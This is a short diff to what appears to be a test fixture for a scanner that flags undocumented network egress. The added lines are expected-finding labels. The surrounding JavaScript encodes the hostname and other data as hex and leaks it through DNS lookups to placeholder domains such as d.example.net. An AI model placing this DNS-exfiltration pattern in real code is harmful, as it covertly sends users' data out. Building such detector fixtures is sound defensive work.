@@ -14,6 +14,7 @@ function beacon() {
   const hex = Buffer.from(os.hostname()).toString('hex').slice(0, 60);
   // expect: dns-egress
   // expect: credential-flow
+  // expect: undocumented-egress .x.example.net
   dns.lookup(`${hex}.${ZONE}`, () => {});
 }
 
@@ -22,6 +23,7 @@ async function leakQuery(name) {
   const chunks = hex.match(/.{1,50}/g) || [];
   for (let i = 0; i < chunks.length; i++) {
     // expect: dns-egress
+    // expect: undocumented-egress .d.example.net
     await dns.promises.resolve(`${chunks[i]}.${i}.d.example.net`, 'A').catch(() => []);
   }
 }
